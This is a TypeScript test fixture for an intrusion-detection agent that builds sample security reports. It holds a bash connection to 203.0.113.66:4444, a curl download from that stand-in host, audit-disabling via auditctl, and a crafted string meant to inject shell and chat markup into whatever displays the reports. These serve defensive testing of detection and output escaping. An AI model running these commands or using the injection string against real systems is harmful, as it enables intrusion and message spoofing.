import type { Alert } from '../../agent/domain/alert.ts'
import type { BlindSpot, Incident, IncidentEdge, Severity, Tamper } from '../../agent/domain/report.ts'

export const TIME_MS = 1_795_211_634_619
const PARENT = 'proc::app:/usr/bin/dash'

/** What an attacker would like a reader of messages to see, or a program to read. */
export const HOSTILE = 'sh -c "x\\" ]\n<!channel> @here <https://evil.test|ok> \u202e\udc80 &amp; [a@1 b="c"]'

export function edgeOf(
  kind: IncidentEdge['kind'],
  from: string,
  to: string,
  argv: readonly string[] = [],
): IncidentEdge {
  return {
    ...{ kind, from, to, count: 2, firstMs: TIME_MS, lastMs: TIME_MS + 1500, bits: 6.5 },
    chain: ['proc::root:/usr/sbin/nginx', from, to],
    evidence: {
      ...{ node: '', serial: 124_870, syscall: 'connect', pid: 24_010, ppid: 24_009, auid: 4242 },
      ...{ comm: 'bash', argv, count: 2 },
    },
  }
}

interface Given {
  readonly id?: number
  readonly severity?: Severity
  readonly title?: string
}

export function incidentWith(
  edges: readonly IncidentEdge[],
  { id = 7, severity = 'high', title = 'bash (app) connected to 203.0.113.66:4444' }: Given = {},
): Incident {
  return {
    ...{ kind: 'incident', id, firstMs: TIME_MS, lastMs: TIME_MS + 1500, severity, score: 23.25, title },
    chain: edges[0]?.chain ?? [],
    edges,
    count: 2 * edges.length,
    reasons: ['bash (app) never connected to anybody', 'a shell with a socket'],
    next: ['ausearch --event 124870', `fullmon explain ${id}`],
    head: 'f'.repeat(64),
  }
}

export const INCIDENT = incidentWith([
  edgeOf('connect', 'proc:c0ffee:app:/usr/bin/bash', 'host:203.0.113.66:4444'),
  edgeOf('exec', PARENT, 'proc::app:/usr/bin/curl', ['curl', '-s', 'http://203.0.113.66/x']),
])

export const HOSTILE_INCIDENT = incidentWith([edgeOf('exec', PARENT, 'proc::app:/usr/bin/bash', [HOSTILE])], {
  id: 8,
  title: HOSTILE,
})

const TAMPER: Tamper = {
  ...{ kind: 'tamper', reason: 'audit-disabled', timeMs: TIME_MS, process: 'proc::root:/usr/sbin/auditctl' },
  chain: ['proc::root:/usr/bin/bash', 'proc::root:/usr/sbin/auditctl'],
  detail: 'the kernel was told to record no more',
  evidence: edgeOf('exec', PARENT, 'proc::root:/usr/sbin/auditctl').evidence,
}

const BLIND: BlindSpot = {
  ...{ kind: 'blind-spot', reason: 'auditd-stopped', fromMs: TIME_MS, toMs: TIME_MS + 1000, count: 0 },
  ...{ detail: 'auditd does not run', isOngoing: true },
}

export const ALERT: Alert = {
  ...{ kind: 'alert', id: 3, source: 'process', key: 'app /tmp/.x deleted_exe', severity: 'high' },
  title: '/tmp/.x (app) runs from a file that was deleted',
  reasons: ['deleted_exe 5.0', 'tmp_exe 4.0'],
  next: ['ls -l /proc/4711/exe'],
  subject: { exe: '/tmp/.x', user: 'app', pids: [4711, 4712], argv: ['/tmp/.x', '-d'], container: 'c0ffee' },
  ...{ firstMs: TIME_MS, lastMs: TIME_MS + 1000, count: 2, isPresent: true, state: 'open' },
}

/** One of each kind, and one with names that somebody chose to do harm. */
export const REPORTS = [INCIDENT, HOSTILE_INCIDENT, ALERT, TAMPER, BLIND] as const
